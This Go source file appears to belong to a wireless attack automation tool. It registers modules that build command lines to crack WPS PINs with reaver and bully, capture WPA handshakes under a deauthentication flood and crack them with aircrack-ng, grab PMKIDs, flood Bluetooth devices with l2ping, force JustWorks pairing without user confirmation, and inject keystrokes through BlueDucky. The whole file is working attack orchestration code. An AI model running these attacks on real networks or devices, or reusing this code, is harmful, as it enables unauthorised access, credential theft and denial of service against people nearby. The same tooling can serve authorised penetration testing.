package classifier

import (
	"fmt"
	"path/filepath"
	"strings"
	"time"

	"github.com/Nsomnia/WiFiddle-Wireless-Fiddle-PlayAllRFStrings/internal/config"
	"github.com/Nsomnia/WiFiddle-Wireless-Fiddle-PlayAllRFStrings/internal/entity"
	"github.com/Nsomnia/WiFiddle-Wireless-Fiddle-PlayAllRFStrings/internal/pipeline/parser"
)

// Classifier defines the interface for matching targets to attack modules
type Classifier interface {
	// Module returns the module registered for an attack in a domain
	Module(domain entity.Domain, attack entity.Attack) (Module, bool)

	// Modules returns every module of a domain in dispatch order
	Modules(domain entity.Domain) []Module

	// Select returns the modules applicable to a target and accepted by selected
	Select(target entity.Target, selected func(entity.Attack) bool) []Module
}

// Options carry the run values invocations are built from
type Options struct {
	Interface  string
	Adapter    string
	CaptureDir string
	Wordlist   string
	Cycle      int
	Settings   config.Settings
}

// OptionsFromRun derives invocation options from the run context
func OptionsFromRun(rc *config.RunContext, iface string, cycle int) Options {
	return Options{
		Interface:  iface,
		Adapter:    rc.Settings.BluetoothAdapter,
		CaptureDir: rc.CaptureDir,
		Wordlist:   rc.Wordlist,
		Cycle:      cycle,
		Settings:   rc.Settings,
	}
}

// Step is one command of an attack invocation
type Step struct {
	Name string             `json:"name"`
	Spec entity.CommandSpec `json:"spec"`
	// Artifact is the file the step writes, recorded for the parser
	Artifact string `json:"artifact,omitempty"`
	// Background runs detached for the duration of this step only
	Background *entity.CommandSpec `json:"background,omitempty"`
	// When gates the step on the output of the steps before it
	When func(prev []entity.StepOutput) bool `json:"-"`
}

// Module is one attack variant of the registry
type Module struct {
	Attack      entity.Attack `json:"attack"`
	Domain      entity.Domain `json:"domain"`
	Description string        `json:"description"`
	// Aggregate modules run once per cycle against a sweep target
	Aggregate bool `json:"aggregate"`

	Applies    func(entity.Target) bool            `json:"-"`
	Invocation func(entity.Target, Options) []Step `json:"-"`
	Parse      parser.Func                         `json:"-"`
}

// Timeout returns the main step timeout of the module
func (m Module) Timeout(t config.TimeoutSettings) time.Duration {
	return t.For(m.Attack)
}

// Registry is the static attack module table
type Registry struct{}

// NewRegistry creates the registry
func NewRegistry() *Registry {
	return &Registry{}
}

// Module returns the module registered for an attack in a domain
func (r *Registry) Module(domain entity.Domain, attack entity.Attack) (Module, bool) {
	if !attack.InDomain(domain) {
		return Module{}, false
	}
	switch attack {
	case entity.AttackPixieDust:
		return pixieDust, true
	case entity.AttackBruteforce:
		return bruteforce, true
	case entity.AttackHandshake:
		return handshake, true
	case entity.AttackPMKID:
		return pmkid, true
	case entity.AttackWifite:
		return wifite, true
	case entity.AttackKismet:
		if domain == entity.DomainBluetooth {
			return kismetBluetooth, true
		}
		return kismetWifi, true
	case entity.AttackDoS:
		return dos, true
	case entity.AttackJustWorks:
		return justWorks, true
	case entity.AttackBlueDucky:
		return blueDucky, true
	}
	return Module{}, false
}

// Modules returns every module of a domain in dispatch order
func (r *Registry) Modules(domain entity.Domain) []Module {
	var out []Module
	for _, a := range entity.Vocabulary(domain) {
		if m, ok := r.Module(domain, a); ok {
			out = append(out, m)
		}
	}
	return out
}

// Select returns the modules of the target's domain that apply to it and
// that selected accepts, in dispatch order.
func (r *Registry) Select(target entity.Target, selected func(entity.Attack) bool) []Module {
	var out []Module
	for _, m := range r.Modules(target.Domain()) {
		if !m.Applies(target) {
			continue
		}
		if selected != nil && !selected(m.Attack) {
			continue
		}
		out = append(out, m)
	}
	return out
}

func isWifi(t entity.Target, c entity.Capability) bool {
	n, ok := t.(entity.WifiNetwork)
	return ok && n.Capability == c
}

func isDevice(t entity.Target) bool {
	_, ok := t.(entity.BluetoothDevice)
	return ok
}

func isClassic(t entity.Target) bool {
	d, ok := t.(entity.BluetoothDevice)
	return ok && d.Transport == entity.TransportClassic
}

func isSweep(t entity.Target, d entity.Domain) bool {
	s, ok := t.(entity.Sweep)
	return ok && s.Scope == d
}

func spec(o Options, tool string, timeout time.Duration, args ...string) entity.CommandSpec {
	return entity.CommandSpec{Name: tool, Path: o.Settings.Tool(tool), Args: args, Timeout: timeout}
}

func window(s entity.CommandSpec) entity.CommandSpec {
	s.Window = true
	return s
}

func channelStep(o Options, n entity.WifiNetwork) Step {
	return Step{
		Name: parser.StepChannel,
		Spec: spec(o, "iwconfig", o.Settings.Discovery.Command, o.Interface, "channel", fmt.Sprint(n.Channel)),
	}
}

func crackStep(o Options, n entity.WifiNetwork, file string) []Step {
	if o.Wordlist == "" {
		return nil
	}
	return []Step{{
		Name: parser.StepCrack,
		Spec: spec(o, "aircrack-ng", o.Settings.Timeouts.Crack, "-w", o.Wordlist, "-b", n.BSSID, file),
		When: func(prev []entity.StepOutput) bool {
			for _, p := range prev {
				if p.Name == parser.StepCapture {
					return parser.CaptureSucceeded(p)
				}
			}
			return false
		},
	}}
}

func captureName(kind string, n entity.WifiNetwork, cycle int) string {
	return fmt.Sprintf("%s_%s_%03d", kind, strings.ReplaceAll(n.BSSID, ":", ""), cycle)
}

func stepSucceededWith(name, marker string) func([]entity.StepOutput) bool {
	return func(prev []entity.StepOutput) bool {
		for _, p := range prev {
			if p.Name == name {
				return strings.Contains(p.Stdout, marker)
			}
		}
		return false
	}
}

var pixieDust = Module{
	Attack:      entity.AttackPixieDust,
	Domain:      entity.DomainWifi,
	Description: "WPS PixieDust offline PIN recovery (reaver -K)",
	Applies:     func(t entity.Target) bool { return isWifi(t, entity.CapabilityWPS) },
	Invocation: func(t entity.Target, o Options) []Step {
		n := t.(entity.WifiNetwork)
		return []Step{
			channelStep(o, n),
			{Name: parser.StepAttack, Spec: spec(o, "reaver", o.Settings.Timeouts.PixieDust,
				"-i", o.Interface, "-b", n.BSSID, "-c", fmt.Sprint(n.Channel), "-vv", "-K", "1")},
		}
	},
	Parse: parser.WPS,
}

var bruteforce = Module{
	Attack:      entity.AttackBruteforce,
	Domain:      entity.DomainWifi,
	Description: "WPS online PIN brute force (bully)",
	Applies:     func(t entity.Target) bool { return isWifi(t, entity.CapabilityWPS) },
	Invocation: func(t entity.Target, o Options) []Step {
		n := t.(entity.WifiNetwork)
		return []Step{
			channelStep(o, n),
			{Name: parser.StepAttack, Spec: spec(o, "bully", o.Settings.Timeouts.Bruteforce,
				"-b", n.BSSID, "-c", fmt.Sprint(n.Channel), "-i", o.Interface, "-v", "3")},
		}
	},
	Parse: parser.WPS,
}

var handshake = Module{
	Attack:      entity.AttackHandshake,
	Domain:      entity.DomainWifi,
	Description: "WPA handshake capture under a deauthentication flood, optional wordlist crack",
	Applies:     func(t entity.Target) bool { return isWifi(t, entity.CapabilityWPA) },
	Invocation: func(t entity.Target, o Options) []Step {
		n := t.(entity.WifiNetwork)
		prefix := filepath.Join(o.CaptureDir, captureName("handshake", n, o.Cycle))
		file := prefix + "-01.cap"
		deauth := spec(o, "aireplay-ng", 0, "-0", "10", "-a", n.BSSID, o.Interface)
		steps := []Step{
			channelStep(o, n),
			{
				Name: parser.StepCapture,
				Spec: window(spec(o, "airodump-ng", o.Settings.Timeouts.Handshake,
					"--bssid", n.BSSID, "-c", fmt.Sprint(n.Channel), "-w", prefix, "--output-format", "pcap", o.Interface)),
				Artifact:   file,
				Background: &deauth,
			},
		}
		return append(steps, crackStep(o, n, file)...)
	},
	Parse: parser.Capture,
}

var pmkid = Module{
	Attack:      entity.AttackPMKID,
	Domain:      entity.DomainWifi,
	Description: "PMKID capture (hcxdumptool), optional wordlist crack",
	Applies:     func(t entity.Target) bool { return isWifi(t, entity.CapabilityWPA) },
	Invocation: func(t entity.Target, o Options) []Step {
		n := t.(entity.WifiNetwork)
		file := filepath.Join(o.CaptureDir, captureName("pmkid", n, o.Cycle)+".pcapng")
		steps := []Step{
			channelStep(o, n),
			{
				Name: parser.StepCapture,
				Spec: window(spec(o, "hcxdumptool", o.Settings.Timeouts.PMKID,
					"-i", o.Interface, "-o", file, "--enable_status=1")),
				Artifact: file,
			},
		}
		return append(steps, crackStep(o, n, file)...)
	},
	Parse: parser.Capture,
}

var wifite = Module{
	Attack:      entity.AttackWifite,
	Domain:      entity.DomainWifi,
	Description: "Automated wifite sweep, credentials collected per network",
	Aggregate:   true,
	Applies:     func(t entity.Target) bool { return isSweep(t, entity.DomainWifi) },
	Invocation: func(t entity.Target, o Options) []Step {
		return []Step{{Name: parser.StepAttack, Spec: spec(o, "wifite", o.Settings.Timeouts.Wifite,
			"--no-wps", "--no-wep", "-i", o.Interface, "--kill")}}
	},
	Parse: parser.Wifite,
}

var kismetWifi = Module{
	Attack:      entity.AttackKismet,
	Domain:      entity.DomainWifi,
	Description: "Passive kismet Wi-Fi capture window",
	Aggregate:   true,
	Applies:     func(t entity.Target) bool { return isSweep(t, entity.DomainWifi) },
	Invocation: func(t entity.Target, o Options) []Step {
		return []Step{{Name: parser.StepAttack, Spec: window(spec(o, "kismet", o.Settings.Timeouts.Kismet,
			"-c", o.Interface, "--silent"))}}
	},
	Parse: parser.Kismet,
}

var kismetBluetooth = Module{
	Attack:      entity.AttackKismet,
	Domain:      entity.DomainBluetooth,
	Description: "Passive kismet Bluetooth capture window",
	Aggregate:   true,
	Applies:     func(t entity.Target) bool { return isSweep(t, entity.DomainBluetooth) },
	Invocation: func(t entity.Target, o Options) []Step {
		return []Step{{Name: parser.StepAttack, Spec: window(spec(o, "kismet", o.Settings.Timeouts.Kismet,
			"-c", o.Adapter))}}
	},
	Parse: parser.Kismet,
}

var dos = Module{
	Attack:      entity.AttackDoS,
	Domain:      entity.DomainBluetooth,
	Description: "l2ping flood (Classic) and bettercap BLE recon/enum probe",
	Applies:     isDevice,
	Invocation: func(t entity.Target, o Options) []Step {
		d := t.(entity.BluetoothDevice)
		var steps []Step
		if d.Transport == entity.TransportClassic {
			steps = append(steps, Step{Name: parser.StepL2Ping,
				Spec: spec(o, "l2ping", o.Settings.Timeouts.DoS, "-i", o.Adapter, "-s", "600", "-c", "10", d.MAC)})
		}
		eval := fmt.Sprintf("ble.recon on; ble.enum %s; ble.recon off; q", d.MAC)
		return append(steps, Step{Name: parser.StepBettercap,
			Spec: spec(o, "bettercap", o.Settings.Timeouts.DoS, "-eval", eval)})
	},
	Parse: parser.DoS,
}

var justWorks = Module{
	Attack:      entity.AttackJustWorks,
	Domain:      entity.DomainBluetooth,
	Description: "JustWorks pairing without user confirmation (Classic only)",
	Applies:     isClassic,
	Invocation: func(t entity.Target, o Options) []Step {
		d := t.(entity.BluetoothDevice)
		timeout := o.Settings.Timeouts.JustWorks
		return []Step{
			{Name: parser.StepPiscan, Spec: spec(o, "hciconfig", o.Settings.Discovery.Command, o.Adapter, "piscan")},
			{Name: parser.StepAuth, Spec: spec(o, "hciconfig", o.Settings.Discovery.Command, o.Adapter, "auth")},
			{Name: parser.StepPair, Spec: spec(o, "bluetoothctl", timeout, "pair", d.MAC)},
			{
				Name: parser.StepConnect,
				Spec: spec(o, "bluetoothctl", timeout, "connect", d.MAC),
				When: stepSucceededWith(parser.StepPair, "Pairing successful"),
			},
		}
	},
	Parse: parser.JustWorks,
}

var blueDucky = Module{
	Attack:      entity.AttackBlueDucky,
	Domain:      entity.DomainBluetooth,
	Description: "BlueDucky HID keystroke injection",
	Applies:     isDevice,
	Invocation: func(t entity.Target, o Options) []Step {
		d := t.(entity.BluetoothDevice)
		return []Step{{Name: parser.StepAttack, Spec: spec(o, "python3", o.Settings.Timeouts.BlueDucky,
			o.Settings.BlueDuckyPath, d.MAC)}}
	},
	Parse: parser.BlueDucky,
}
